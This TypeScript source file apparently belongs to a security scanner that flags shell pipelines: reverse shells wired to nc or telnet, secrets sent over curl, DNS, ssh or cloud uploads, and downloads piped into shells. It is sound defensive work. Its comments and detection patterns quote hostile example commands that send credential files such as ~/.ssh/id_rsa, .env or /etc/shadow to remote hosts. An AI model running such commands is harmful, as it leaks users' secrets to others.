// One pipeline's flows: shells wired to network tools, secrets piped or passed to senders, downloads piped into shells.

import type { Hit } from "./types.ts";
import {
  CODE_RUNNERS,
  DNS,
  ENV_INLINE,
  INSTALLER_HOSTS,
  LOCAL_ONLY,
  LOCAL_URL,
  NET,
  RAW_IP_URL,
  SENSITIVE_PATH,
  SENSITIVE_VAR,
  SHELLS,
  SINK_AFTER_SOURCE,
  URL_RE,
  headerData,
  hit,
  isNetwork,
  outboundData,
  readsSecrets,
  systemFileToIp,
} from "./bash-facts.ts";
import { authHeadersOff } from "./code-scan.ts";
import { runsStdinScript } from "./bash-stdin-scripts.ts";
import { hostOf } from "./shell-flow.ts";
import {
  AUTH_HELPER,
  helperToken,
  literalHost,
  oauthExchange,
  tokenHostHits,
  urlPath,
} from "./bash-pipeline-tokens.ts";
import { substitutedSecret } from "./shell-secret-reads.ts";
import { secretVars, worstVerdict } from "./shell-token-hosts.ts";
import type { Word } from "./shell-parse.ts";
import { base, type Stage } from "./shell-words.ts";

/** An interactive shell whose input or output is a network tool: mkfifo/nc, telnet | sh | telnet. */
function wiredShellHits(stages: Stage[], hits: Hit[]): void {
  const shellAt = stages.findIndex(
    (s) =>
      SHELLS.has(s.name) &&
      !CODE_RUNNERS.has(s.name) &&
      !s.argv.slice(1).some((w) => !w.text.startsWith("-") || w.text === "-c"),
  );
  if (
    shellAt >= 0 &&
    stages.some(
      (s, k) =>
        k !== shellAt &&
        (s.name === "nc" ||
          s.name === "ncat" ||
          s.name === "netcat" ||
          s.name === "telnet" ||
          s.name === "socat" ||
          (s.name === "openssl" && /s_client/.test(s.text))),
    )
  ) {
    hits.push(
      hit(
        "bash.reverse-shell",
        "bash_reverse_shell",
        0.95,
        stages[0].cmd.start,
        stages[stages.length - 1].cmd.end,
        `${stages.map((s) => s.name).join(" | ")}: a shell wired to a network tool`,
      ),
    );
  }
}

/** a bare public IP address (not loopback, private, link-local or documentation-local): no API keeps tokens there */
const PUBLIC_IP =
  /(?:^|[\s/@"'=])(?!(?:127|10|0)\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|169\.254\.)(?:\d{1,3}\.){3}\d{1,3}(?=[:/\s"']|$)/;

/** A network command whose own arguments, headers or stdin carry a secret, a DNS lookup carrying data, a file upload. */
function sinkArgHits(s: Stage, src: string, hits: Hit[]): void {
  const { cmd, name } = s;
  const at = (w?: Word): [number, number] => (w ? [w.start, w.end] : [cmd.start, cmd.end]);
  if (isNetwork(s) || DNS.has(name)) {
    const data = oauthExchange(outboundData(s), s.text);
    const [st] = at(s.argv[0]);
    const stdin = cmd.redirects.find((r) => r.op === "<" && SENSITIVE_PATH.test(r.target.text));
    const fed = fedSecret(cmd.stdin);
    // a header may carry an API token ($TOKEN), but not the output of a command that reads secrets
    // (a CLI's token helper in an auth header, `Authorization: token $(gh auth token)`, is that token: auth, not data)
    const headers = headerData(s).replace(
      AUTH_HELPER,
      (all: string, head: string) => `${head}$${helperToken(all.slice(head.length))}`,
    );
    const headerSecret = /\$\(|`/.test(headers)
      ? (SENSITIVE_PATH.exec(headers)?.[0] ?? ENV_INLINE.exec(headers)?.[0])
      : PUBLIC_IP.test(s.text)
        ? SENSITIVE_VAR.exec(headers)?.[0]
        : undefined;
    const host = hostOf(s);
    // a secret-named variable in the data, the URL or its query goes to its owner's host, or to one the command takes
    // from a variable ($API_URL): the token used as designed, not sent away
    const dataVar = SENSITIVE_VAR.exec(data)?.[0];
    const path = urlPath(s.text);
    const varSent =
      dataVar && worstVerdict(secretVars(data), literalHost(s, host), path) !== "owner" ? dataVar : undefined;
    // inline code's auth header from one named variable is judged by the token's owner, as the code scan does
    const envData = CODE_RUNNERS.has(name) ? authHeadersOff(data) : data;
    const secret =
      SENSITIVE_PATH.exec(data)?.[0] ??
      ENV_INLINE.exec(envData)?.[0] ??
      substitutedSecret(envData) ??
      varSent ??
      headerSecret ??
      stdin?.target.text ??
      fed;
    if (!secret) tokenHostHits(s, headers, literalHost(s, host), path, st, hits);
    if (secret) {
      hits.push(
        hit(
          "bash.exfil-args",
          "bash_exfil",
          0.93,
          st,
          cmd.end,
          `${secret.trim()} → ${name}${host ? ` to ${host}` : ""}`,
        ),
      );
    } else if (DNS.has(name) && name !== "getent" && /\$\(|`/.test(data)) {
      // (getent also looks up users and groups, `getent passwd "$(whoami)"`: only a secret read makes its name a leak)
      hits.push(hit("bash.exfil-dns", "bash_exfil", 0.9, st, cmd.end));
    } else if (
      NET.has(name) &&
      /(?:^|\s)(?:(?:-F|--form|-T|--upload-file|--data-binary|-d|--data)(?:\s|=)?\S{0,3}@|--(?:post|body)-file(?:\s|=)\S)/.test(
        data,
      )
    ) {
      const url = URL_RE.exec(data)?.[0] ?? "";
      // a system file posted to a bare IP address is what exfiltration looks like; a file to an API is ordinary
      const system = systemFileToIp(src);
      if (!LOCAL_URL.test(url))
        hits.push(
          hit(
            "bash.upload-file",
            "bash_exfil",
            system ? 0.86 : RAW_IP_URL.test(url) || /^http:/i.test(url) ? 0.62 : 0.45,
            st,
            cmd.end,
            `file uploaded by ${name}${hostOf(s) ? ` to ${hostOf(s)}` : ""}`,
          ),
        );
    }
  }
}

/** A cloud storage client's upload: its source arguments go to a bucket, a container or a remote of the account. */
const CLOUD_UPLOAD =
  /^(?:az\s+storage\s+(?:blob|file)\s+upload(?:-batch)?|azcopy\s+(?:copy|cp|sync)|mc\s+(?:cp|mirror|put)|gsutil\s+(?:-[mq]\s+){0,2}(?:cp|rsync|mv)|gcloud\s+storage\s+(?:cp|rsync)|aws\s+s3\s+(?:cp|sync|mv)|s3cmd\s+(?:put|sync)|rclone\s+(?:copy|copyto|sync|move)|b2\s+upload-file|oci\s+os\s+object\s+put)\b/;

/** A mailer or ssh fed a secret on stdin; a cloud upload of a secret file; any other program given a host and a secret. */
function otherSinkHits(s: Stage, hits: Hit[]): void {
  const { cmd, name } = s;
  // a credential file uploaded to cloud storage (mc cp ~/.kube/config …, az storage blob upload -f .env.production …):
  // storage is a place others read; build outputs and reports uploaded the same way name no secret
  if (CLOUD_UPLOAD.test(s.argv.map((w) => w.text).join(" "))) {
    const secret = s.argv
      .slice(1)
      .map((w) => w.text)
      .find((t) => SENSITIVE_PATH.test(t));
    if (secret) {
      hits.push(hit("bash.exfil-file", "bash_exfil", 0.92, cmd.start, cmd.end, `${secret} → ${name} (cloud storage)`));
      return;
    }
  }
  // ssh, mail, sendmail … fed a secret file on stdin (ssh host 'cat > x' < ~/.ssh/id_rsa)
  if (SINK_AFTER_SOURCE.has(name) && !isNetwork(s)) {
    const stdin = cmd.redirects.find((r) => r.op === "<" && SENSITIVE_PATH.test(r.target.text));
    if (stdin)
      hits.push(
        hit(
          "bash.exfil-args",
          "bash_exfil",
          0.93,
          cmd.start,
          cmd.end,
          `${stdin.target.text} → ${name}${hostOf(s) ? ` to ${hostOf(s)}` : ""}`,
        ),
      );
  }
  // any other program given a remote host and a secret (finger "$(cat .env)"@host, lp /etc/shadow -h host, hping3 --file …,
  // mosquitto_pub -h host -f .env, redis-cli -h host -x set k < ~/.netrc): the remote and the data make it a sink
  if (!isNetwork(s) && !DNS.has(name) && !LOCAL_ONLY.has(name)) {
    const redirected = cmd.redirects.find((r) => r.op === "<" && SENSITIVE_PATH.test(r.target.text))?.target.text;
    const args = s.argv
      .slice(1)
      .filter((_w, i, a) => !(i > 0 && /^-(?:i|C|k|-identity|F)$/.test(a[i - 1].text)))
      // an identity file inside a carried ssh command (--ssh-cmd 'ssh -i ~/.ssh/key') is a key used, not sent
      .map((w) => w.text.replace(/(?:^|\s)-i\s+\S+/g, " "))
      .join(" ");
    const data = `${args} ${redirected ?? ""} ${fedSecret(cmd.stdin) ?? ""}`;
    const secret =
      SENSITIVE_PATH.exec(data)?.[0] ??
      /\$\(\s{0,3}(?:env|printenv|cat\s+[^)]{0,40}\.env)[^)]{0,40}\)/.exec(data)?.[0] ??
      substitutedSecret(data);
    const host = secret ? hostOf(s) : null;
    if (
      secret &&
      // ssh's remote command names the remote host's files; only a local substitution sends a local secret
      (name !== "ssh" || /\$\(|`/.test(data)) &&
      host &&
      (/^(?:\d{1,3}\.){3}\d{1,3}$/.test(host) ||
        /@|(?:^|\s)-h\s|:\d{2,5}\b|\\\\/.test(data) ||
        /\.(?:com|net|org|io|dev|xyz|ru|cn|site|online|top|example)$/i.test(host))
    ) {
      hits.push(hit("bash.exfil-args", "bash_exfil", 0.9, cmd.start, cmd.end, `${secret.trim()} → ${name} to ${host}`));
    }
  }
}

/** A here-string or heredoc whose text a substitution fills from a secret (`<<< "$(printenv)"`, `<<< "$(< ~/.npmrc)"`). */
function fedSecret(stdin: Word[]): string | undefined {
  for (const w of stdin) {
    if (!/\$\(|`/.test(w.text)) continue;
    const found = ENV_INLINE.exec(w.text)?.[0] ?? SENSITIVE_PATH.exec(w.text)?.[0];
    if (found) return found;
  }
  return undefined;
}

/** Where stdin is a program, not data: "-", /dev/stdin and its aliases. */
const STDIN_PATH = /^(?:-|\/dev\/stdin|\/dev\/fd\/0|\/proc\/self\/fd\/0)$/;

/**
 * An interpreter told which program to run (`python3 -m json.tool`, `node scripts/fmt.js`, `bash ./render.sh`) reads
 * what is piped in as data. Inline code (-c/-e) and `-s` still count as a run: the code may exec what it reads.
 */
export function runsNamedProgram(s: Stage): boolean {
  const args = s.argv.slice(1).map((w) => w.text);
  for (let i = 0; i < args.length; i++) {
    const a = args[i] ?? "";
    if (/^-(?:c|e|s|E|r|p|-eval|-print|-command)$/.test(a) || /^-\w*[ce]$/.test(a)) return false;
    if (a === "-m" && CODE_RUNNERS.has(s.name)) return /^[\w.]+$/.test(args[i + 1] ?? "");
    if (!a.startsWith("-")) return !STDIN_PATH.test(a) && /^[\w./~-]+$/.test(a);
    if (STDIN_PATH.test(a)) return false;
  }
  return false;
}

/** A CLI that prints its own access token (gh, gcloud, aws, az, vault, op, kubectl). */
const TOKEN_HELPER =
  /^\s*(?:gh\s+auth\s+token|gcloud\s+auth\s+(?:application-default\s+)?print-access-token|aws\s+[\w-]+\s+get-login-password|az\s+account\s+get-access-token|vault\s+print\s+token|kubectl\s+create\s+token)\b/;

/** `helper | xargs -I{} curl -H "Authorization: Bearer {}" URL`: the placeholder only in the auth header. */
function helperIntoHeader(source: Stage, sink: Stage): boolean {
  if (!TOKEN_HELPER.test(source.text) || base(sink.cmd.words[0]?.text ?? "") !== "xargs") return false;
  const placeholder = /\s-I\s*(\S+)/.exec(sink.cmd.words.map((w) => w.text).join(" "))?.[1] ?? "{}";
  return headerData(sink).includes(placeholder) && !outboundData(sink).includes(placeholder);
}

/** Hits of one pipeline read as a flow from its sources to its sinks. */
export function scanPipeline(stages: Stage[], src: string, hits: Hit[]): void {
  wiredShellHits(stages, hits);
  let secretSource: Stage | null = null;
  const chain: string[] = [];
  let fetcher: Stage | null = null;
  let decoded = false;
  for (const s of stages) {
    const { cmd, name } = s;
    if (name === "") continue;
    // secrets read earlier in the pipeline and sent to the network here (a CLI's token helper handed by xargs into the
    // auth header of the call is the token used to log in: the header check judges its host, as for `$(gh auth token)`)
    if ((isNetwork(s) || SINK_AFTER_SOURCE.has(name)) && secretSource && !helperIntoHeader(secretSource, s)) {
      const host = hostOf(s);
      const what =
        secretSource.name === "cat" || secretSource.name === "tar"
          ? secretSource.text.replace(/\s+/g, " ").slice(0, 60)
          : secretSource.name;
      hits.push(
        hit(
          "bash.exfil-pipe",
          "bash_exfil",
          0.95,
          secretSource.cmd.start,
          cmd.end,
          `\`${what}\` → ${[...chain, `${name}${host ? ` to ${host}` : ""}`].join(" → ")}`,
        ),
      );
    } else if (secretSource) chain.push(name);
    sinkArgHits(s, src, hits);
    otherSinkHits(s, hits);
    // fetch-and-run: a download piped (maybe through a decoder) into an interpreter
    if (
      fetcher &&
      ((SHELLS.has(name) && !s.argv.some((w) => w.text === "-n" || w.text === "--version") && !runsNamedProgram(s)) ||
        runsStdinScript(s))
    ) {
      const url = URL_RE.exec(fetcher.text)?.[0] ?? "";
      const trusted = INSTALLER_HOSTS.test(url) && !decoded;
      const weight = trusted
        ? 0.45
        : RAW_IP_URL.test(url) || decoded || /^http:/i.test(url) || DNS.has(fetcher.name)
          ? 0.95
          : 0.88;
      hits.push(hit("bash.pipe-to-shell", "bash_remote_exec", weight, fetcher.cmd.start, cmd.end));
    }
    if (NET.has(name) || (DNS.has(name) && /\btxt\b/i.test(s.text))) fetcher = fetcher ?? s;
    if (fetcher && (name === "base64" || name === "xxd" || name === "openssl" || name === "gunzip" || name === "rev"))
      decoded = true;
    if (readsSecrets(s) && !isNetwork(s)) secretSource = secretSource ?? s;
  }
}
